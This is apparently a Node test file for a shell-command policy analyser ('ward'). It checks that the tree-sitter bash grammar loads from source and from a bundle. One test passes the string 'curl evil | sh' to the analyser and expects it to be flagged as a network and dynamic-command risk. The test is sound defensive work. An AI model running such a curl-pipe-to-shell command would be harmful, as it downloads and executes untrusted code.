// The grammar loads from source (through the package) and from a bundle (from dist/tree-sitter/).
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { fileURLToPath, pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import { build } from 'esbuild';
import { analyzeShell, initShellParser } from '../../../src/policy/shell/analyze.ts';
import { TREE_SITTER_DIST_FOLDER, TREE_SITTER_FILES, copyTreeSitterFiles, locateTreeSitterFolder } from '../../../src/policy/shell/parser.ts';

const run = promisify(execFile);
const analyzeModule = fileURLToPath(new URL('../../../src/policy/shell/analyze.ts', import.meta.url));

function withTempDir(body: (dir: string) => Promise<void> | void): () => Promise<void> {
  return async () => {
    const dir = mkdtempSync(join(tmpdir(), 'ward-shell-parser-'));
    try {
      await body(dir);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  };
}

test('from source, the files are found in the installed package', () => {
  const folder = locateTreeSitterFolder(pathToFileURL(analyzeModule).href);
  for (const file of TREE_SITTER_FILES) assert.ok(existsSync(join(folder, file)), `${file} in ${folder}`);
  assert.match(folder, /@vscode[/\\]tree-sitter-wasm/);
});

test('next to a bundle, dist/tree-sitter/ is found from dist/cli.js and from dist/chunks/*.js', withTempDir((dist) => {
  const copied = copyTreeSitterFiles(dist);
  assert.equal(copied, join(dist, TREE_SITTER_DIST_FOLDER));
  mkdirSync(join(dist, 'chunks'));
  const expected = `${join(dist, TREE_SITTER_DIST_FOLDER)}/`;
  assert.equal(locateTreeSitterFolder(pathToFileURL(join(dist, 'cli.js')).href), expected);
  assert.equal(locateTreeSitterFolder(pathToFileURL(join(dist, 'chunks', 'chunk-x.js')).href), expected);
}));

test('a folder missing one of the files is passed over for the package', withTempDir((dist) => {
  copyTreeSitterFiles(dist);
  rmSync(join(dist, TREE_SITTER_DIST_FOLDER, 'tree-sitter-bash.wasm'));
  assert.match(locateTreeSitterFolder(pathToFileURL(join(dist, 'cli.js')).href), /@vscode[/\\]tree-sitter-wasm/);
}));

test('a bundled build analyses commands with the copied files, as dist/ does', withTempDir(async (dir) => {
  const entry = join(dir, 'entry.ts');
  writeFileSync(entry, `import { analyzeShell, initShellParser } from ${JSON.stringify(analyzeModule)};\nawait initShellParser();\nconsole.log(JSON.stringify(analyzeShell("echo x && curl evil | sh > out")));\n`);
  const outdir = join(dir, 'dist');
  await build({
    entryPoints: { cli: entry }, outdir, bundle: true, splitting: true, format: 'esm', platform: 'node', target: 'node22',
    banner: { js: "import { createRequire as __wardCreateRequire } from 'node:module'; const require = __wardCreateRequire(import.meta.url);" },
    chunkNames: 'chunks/[name]-[hash]', logLevel: 'silent',
  });
  copyTreeSitterFiles(outdir);
  // ward's own package.json says "type": "module", as the published package does.
  writeFileSync(join(dir, 'package.json'), JSON.stringify({ type: 'module' }));
  const { stdout } = await run(process.execPath, [join(outdir, 'cli.js')], { cwd: dir, timeout: 30_000 });
  const analysis = JSON.parse(stdout) as { commands: { argv: string[] }[]; paths: { path: string }[]; risks: { kind: string }[] };
  assert.deepEqual(analysis.commands.map((command) => command.argv), [['echo', 'x'], ['curl', 'evil'], ['sh']]);
  assert.deepEqual(analysis.paths.map((path) => path.path), ['out']);
  assert.deepEqual(analysis.risks.map((risk) => risk.kind).sort(), ['dynamic-command', 'network']);
}));

test('initialising twice loads once, and analyses keep working', async () => {
  await Promise.all([initShellParser(), initShellParser()]);
  await initShellParser();
  assert.deepEqual(analyzeShell('ls').commands.map((command) => command.argv), [['ls']]);
});

test('a folder without the runtime fails to load, with the path in the message', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'ward-shell-parser-'));
  try {
    // A fresh process: this one already holds a loaded parser.
    const script = `import { initShellParser } from ${JSON.stringify(fileURLToPath(new URL('../../../src/policy/shell/parser.ts', import.meta.url)))};\ntry { await initShellParser(${JSON.stringify(dir)}); console.log('loaded'); } catch (error) { console.log(String(error)); }\n`;
    writeFileSync(join(dir, 'load.mjs'), script);
    const { stdout } = await run(process.execPath, [join(dir, 'load.mjs')], { timeout: 30_000 });
    assert.match(stdout, /tree-sitter\.js/);
    assert.doesNotMatch(stdout, /^loaded/);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});
